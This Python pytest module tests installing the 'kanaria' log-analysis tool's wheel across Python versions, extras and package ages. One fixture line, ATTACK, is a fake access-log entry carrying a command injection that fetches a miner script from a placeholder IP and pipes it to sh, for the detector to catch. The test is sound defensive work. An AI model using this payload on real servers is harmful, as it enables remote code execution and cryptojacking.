"""The wheel as users have it: alone, with each extra, on each Python, with the oldest and the newest packages.

Run by ``make test-install``; not part of ``make test``, because every environment is made anew.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import tarfile
import tempfile
import time
import zipfile
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime
from pathlib import Path

import pytest

from benchmarks.__main__ import SKIPPED, benchmarks
from kanaria.formats import registry
from tests.install import environments, samples
from tests.install.environments import OWN, PYTHONS, ROOT, Environment
from tests.logon_formats.build_evtx import evtx

pytestmark = pytest.mark.install

EXPORTS = ("text", "markdown", "html", "json", "ocsf", "navigator", "misp", "csv", "iocs")
LOG = samples.EXAMPLES / "home-server-access.log"
ATTACK = '203.0.113.9 - - [{when}] "GET /x?c=$(wget+http://198.51.100.7/xmrig.sh+-O-|sh) HTTP/1.1" 404 9 "-" "curl/8"\n'
NOBODY = 65534
WITHOUT = {
    "host": "psutil",
    "windows": "evtx",
    "plot": "matplotlib",
    "exchange": "stix2",
    "spark": "sqlglot",
    "llm": "httpx2",
    "mcp": "mcp",
    "kafka": "confluent-kafka",
    "redis": "redis>=",
}
"""What an installation without the extra lacks; the message has to name it."""
STREAMS = {
    "kafka": 'brokers = "127.0.0.1:9"\ntopics = ["a"]',
    "redis": 'url = "redis://127.0.0.1:9"\nstreams = ["a"]',
}


@pytest.fixture(scope="session")
def wheel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Built once for a run: with xdist, the workers' folders lie side by side in one that is of this run alone."""
    own = tmp_path_factory.getbasetemp()
    return environments.built((own.parent if "PYTEST_XDIST_WORKER" in os.environ else own) / "kanaria-dist")[0]


@pytest.fixture(scope="session")
def public() -> Iterator[Path]:
    """A folder that everybody may read; pytest closes its own to others."""
    with tempfile.TemporaryDirectory(prefix="kanaria-install-") as made:
        Path(made).chmod(0o755)
        yield Path(made)


@pytest.fixture(scope="session")
def inputs(public: Path) -> Path:
    """One small file of every format, and the bundled examples."""
    folder = public / "inputs"
    folder.mkdir()
    samples.one_of_each(folder)
    for sample in samples.EXAMPLES.iterdir():
        shutil.copy(sample, folder / sample.name)
    for made in (folder, *folder.iterdir()):
        made.chmod(0o755 if made.is_dir() else 0o644)
    return folder


@pytest.fixture(scope="session")
def alone(wheel: Path, public: Path) -> Environment:
    return environments.make(public / "env", OWN, str(wheel))


def works(environment: Environment, inputs: Path, folder: Path) -> None:
    """The main jobs end as they should, without a word of Python's on standard error."""
    environment.run("demo", folder=folder)  # the first run says that it compiles
    for language, known in (("en", "coins"), ("ja", "マイニング")):
        demo = environment.run("demo", "--lang", language, folder=folder)
        assert (demo.returncode, demo.stderr) == (0, "")
        assert known in demo.stdout, demo.stdout[:500]
    reads_every_format(environment, inputs, folder)
    asked = environment.run("explain", '{"id":1,"method":"mining.subscribe","params":[]}', folder=folder)
    assert "mining.subscribe" in asked.stdout and asked.returncode in {0, 1}, asked.stderr
    for command in (["devices", inputs / "dns-server.pcap"], ["rules", "test"], ["formats"], ["--version"]):
        done = environment.run(*command, folder=folder)
        assert done.returncode == 0 and done.stdout.strip(), f"{command}: {done.stderr}"
    keeps(environment, inputs, folder)
    watches(environment, folder)
    for kind in EXPORTS:
        done = environment.run("analyze", "--format", kind, "-o", f"out.{kind}", LOG, folder=folder)
        assert done.returncode == 0 and "Traceback" not in done.stderr, f"{kind}: {done.stderr}"
        assert (folder / f"out.{kind}").stat().st_size > 200, kind


def keeps(environment: Environment, inputs: Path, folder: Path) -> None:
    """What a run keeps is listed and told, backed up and brought back."""

    def said(*command: str | Path) -> str:
        done = environment.run(*command, folder=folder)
        assert done.returncode == 0 and done.stdout.strip(), f"{command}: {done.stderr}"
        return done.stdout

    said("analyze", "--store", "kept", LOG)
    said("baseline", "learn", inputs / "dns-server.pcap", "--store", "kept")
    listed, normal = said("incident", "list", "--store", "kept"), said("baseline", "show", "--store", "kept")
    said("ask", listed.split()[0], "did it work?", "--store", "kept")
    said("backup", "kept.tar.gz", "--store", "kept")
    said("restore", "kept.tar.gz", "--store", "again")
    assert said("incident", "list", "--store", "again") == listed
    assert said("baseline", "show", "--store", "again") == normal


def watches(environment: Environment, folder: Path) -> None:
    """The service goes on with a store, judges a line that is written, answers others, and ends when it is asked to."""
    (folder / "access.log").touch()
    (folder / "kanaria.toml").write_text('store = "again"\n[[sources]]\nkind = "file"\npath = "access.log"\n')
    before = environment.run("incident", "list", "--config", "kanaria.toml", folder=folder).stdout.splitlines()
    with environment.running("serve", "--config", "kanaria.toml", folder=folder) as service:
        assert service.stderr is not None
        assert any(" started " in line for line in service.stderr)
        with (folder / "access.log").open("a") as server:
            server.write(ATTACK.format(when=datetime.now(UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")))
        until, listed = time.monotonic() + 120, before
        while len(listed) == len(before) and time.monotonic() < until:
            listed = environment.run("incident", "list", "--config", "kanaria.toml", folder=folder).stdout.splitlines()
        assert len(listed) == len(before) + 1, service.poll()
        wrong = environment.run("doctor", "--config", "kanaria.toml", folder=folder).stdout
        assert wrong == "- Nobody is notified: there is no [[notify]] in the settings.\n"
        service.terminate()
        assert "stopped records=1" in service.stderr.read()
        assert service.wait(timeout=60) == 0


def reads_every_format(environment: Environment, inputs: Path, folder: Path, before: Sequence[str] = ()) -> None:
    """One file of each is read as what it is; what lacks a package is named, with the way out, and stops nothing."""
    read = environment.run("analyze", "--format", "json", inputs, before=before, folder=folder)
    assert "Traceback" not in read.stderr and read.returncode in {1, 3}, read.stderr
    document = json.loads(read.stdout)
    assert {incident["severity"] for incident in document["incidents"]} >= {"high", "informational"}
    wanted = {known.name for known in registry.all_formats()} - {"logformat"}
    if "evtx" not in environments.modules(environment):
        wanted.remove("evtx")
        (said,) = [note["en"] for note in document["notes"] if "could not be read" in note["en"]]
        assert "needs the package evtx; install it with: " in said
    assert {item["format"] for item in document["inputs"] if item["rows"] > item["unread"]} >= wanted
    told = ["analyze", "--format", "json", "--log-format", samples.LAYOUT]
    layout = environment.run(*told, ROOT / "tests/formats_web/golden/logformat.log", folder=folder)
    assert [item["format"] for item in json.loads(layout.stdout)["inputs"]] == ["logformat"], layout.stderr


@pytest.mark.parametrize("version", PYTHONS)
def test_the_wheel_alone_works_on_each_python_with_the_newest_packages(
    version: str, wheel: Path, inputs: Path, alone: Environment, tmp_path: Path
) -> None:
    made = alone if version == OWN else environments.make(tmp_path / "env", version, str(wheel))
    works(made, inputs, tmp_path)


def test_the_wheel_works_with_the_oldest_packages_its_metadata_allows(
    wheel: Path, inputs: Path, tmp_path: Path
) -> None:
    oldest = ["--resolution", "lowest-direct"]
    works(environments.make(tmp_path / "env", OWN, str(wheel), options=oldest), inputs, tmp_path)


def test_an_installation_brings_nothing_that_only_tests_have(alone: Environment) -> None:
    assert environments.modules(alone).isdisjoint({"pandas", "pytz", "pytest", "pyspark", "ibis-framework", "mypy"})


@pytest.mark.parametrize("name", benchmarks())
def test_each_benchmark_runs_where_users_are(name: str, alone: Environment, tmp_path: Path) -> None:
    """In the small: that it measures something here, and needs nothing that only tests have."""
    small = {
        "PATH": os.environ["PATH"], "HOME": str(tmp_path), "LANG": "C.UTF-8", "KANARIA_BENCH_SMALL": "1",
        **{name: os.environ[name] for name in ("KANARIA_DATA",) if name in os.environ},
    }  # fmt: skip
    done = subprocess.run(
        [str(alone.python), "-m", f"benchmarks.{name}"], env=small, cwd=ROOT,
        check=False, capture_output=True, text=True, timeout=environments.MINUTES,
    )  # fmt: skip
    if done.returncode == SKIPPED:
        pytest.skip(done.stderr.strip())
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr[-2000:]
    assert re.search(r"\d", done.stdout), "a benchmark prints numbers"


def ask_for(extra: str, environment: Environment, folder: Path) -> tuple[int, str]:
    """Something that only this extra brings."""
    log = LOG
    (folder / "Security.evtx").write_bytes(evtx())
    (folder / "llm.toml").write_text('[llm]\nbase_url = "http://127.0.0.1:9/v1"\nmodel = "none"\n')
    for kind, source in STREAMS.items():
        (folder / f"{kind}.toml").write_text(f'[[sources]]\nkind = "{kind}"\n{source}\n')
    commands: dict[str, list[str | Path]] = {
        **{kind: ["check-config", "--config", f"{kind}.toml"] for kind in STREAMS},
        "host": ["analyze", "--check-host", log],
        "windows": ["analyze", "Security.evtx"],
        "exchange": ["analyze", "--format", "stix", log],
        "plot": ["analyze", "--format", "html", log.with_name("dns-server.pcap")],
        "llm": ["analyze", "--writer", "llm", "--config", "llm.toml", log],
        "mcp": ["mcp", "--store", folder / "store"],
        "spark": ["rules", "convert", "web_log4shell", "--to", "spark"],
    }
    done = environment.run(*commands[extra], folder=folder)
    return done.returncode, done.stdout + done.stderr


@pytest.mark.parametrize("extra", sorted(WITHOUT))
def test_what_an_extra_brings_is_named_with_the_way_to_get_it(extra: str, alone: Environment, tmp_path: Path) -> None:
    _status, said = ask_for(extra, alone, tmp_path)
    assert "Traceback" not in said
    assert "kanaria[" not in said, "nobody may be sent to a name in a registry that is not ours"
    assert f"install --python {alone.python} " in said or f"{alone.python} -m pip install" in said, said[-500:]
    assert WITHOUT[extra] in said


@pytest.mark.parametrize("extra", [*sorted(set(environments.extras()) - {"all"}), "all"])
def test_each_extra_does_what_it_is_for_and_disturbs_nothing(
    extra: str, wheel: Path, inputs: Path, tmp_path: Path
) -> None:
    made = environments.make(tmp_path / "env", OWN, f"{wheel}[{extra}]")
    for asked in sorted(set(WITHOUT) - {"spark"}) if extra == "all" else [extra] if extra in WITHOUT else []:
        status, said = ask_for(asked, made, tmp_path)
        assert status in {0, 1, 2, 3} and "Traceback" not in said, said[-500:]
        assert "install --python" not in said, said[-500:]
    if extra == "spark":  # no command has a word for the baseline on Spark, so it is asked for as a program would
        run_on = "import pyspark.sql; from kanaria.baseline import program; print(callable(program.score))"
        assert subprocess.check_output([made.python, "-c", run_on], cwd=tmp_path) == b"True\n"
    works(made, inputs, tmp_path)


def test_an_extra_for_everything_names_each_other_one() -> None:
    listed = environments.extras()
    assert set(WITHOUT) <= set(listed)


def test_an_ordinary_user_without_a_home_uses_an_installation_of_root(alone: Environment, inputs: Path) -> None:
    if os.geteuid() != 0 or not shutil.which("setpriv"):
        pytest.skip("needs root, to become somebody else")
    as_nobody = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups"]
    log = inputs / "home-server-access.log"
    for surroundings in ({"HOME": None}, {"HOME": "/nonexistent", "PYTHONDONTWRITEBYTECODE": "1"}):
        done = alone.run("analyze", log, before=as_nobody, folder=Path("/"), **surroundings)
        assert (done.returncode, done.stderr) == (0, ""), done.stderr


def needs_unshare() -> None:
    if os.geteuid() != 0 or not shutil.which("unshare"):
        pytest.skip("needs root, to take away what others may miss")


def test_nothing_asks_the_network(alone: Environment, inputs: Path, tmp_path: Path) -> None:
    needs_unshare()
    offline = ["unshare", "-n"]
    done = alone.run("demo", before=offline, folder=tmp_path)
    assert (done.returncode, done.stderr) == (0, "")
    reads_every_format(alone, inputs, tmp_path, before=offline)


def test_an_installation_that_cannot_be_written_to_keeps_its_machine_code_in_the_user_s_home(
    wheel: Path, inputs: Path, tmp_path: Path
) -> None:
    """As on a read-only disk, which root cannot write to either; it was never used before."""
    needs_unshare()
    unused = environments.make(tmp_path / "env", OWN, str(wheel))
    keep_out = 'mount --bind "$0" "$0"; mount -o remount,bind,ro "$0"; ! touch "$0/x" 2>/dev/null; exec "$@"'
    closed = ["unshare", "-m", "--propagation", "private", "sh", "-ec", keep_out, str(unused.folder)]
    (home := tmp_path / "home").mkdir()
    first = unused.run("analyze", inputs, before=closed, folder=home)
    assert first.returncode in {1, 3} and "Traceback" not in first.stderr, first.stderr
    kept = set((home / ".cache").rglob("*.nb?"))
    assert kept, "what was compiled is kept"
    again = unused.run("analyze", inputs, before=closed, folder=home)
    assert again.returncode == first.returncode
    assert set((home / ".cache").rglob("*.nb?")) == kept, "and is not made again"
    assert not list(unused.folder.rglob("*.nb?"))


def test_the_version_says_which_commit_it_was_built_from(alone: Environment) -> None:
    said = alone.run("--version").stdout
    commit = subprocess.run(["git", "rev-parse", "--short", "HEAD"], cwd=ROOT, capture_output=True, text=True).stdout
    assert re.fullmatch(r"kanaria, version \d+\.\d+\.\d+ \([0-9a-f]+(-dirty)?\)\n", said), said
    assert commit.strip()[:7] in said


def test_the_archives_carry_what_they_should(tmp_path: Path) -> None:
    wheel, sdist = environments.built(tmp_path)
    with zipfile.ZipFile(wheel) as packed:
        names = packed.namelist()
    assert {"kanaria/py.typed", "kanaria/commit.txt"} <= set(names)
    assert any(name.endswith("LICENSE") for name in names)
    assert not [name for name in names if name.startswith(("tests/", "benchmarks/"))]
    with tarfile.open(sdist) as unpacked:
        sources = unpacked.getnames()
    assert any(name.endswith("/pyproject.toml") for name in sources)
    assert not [name for name in sources if "/.venv/" in name or "/.git/" in name]
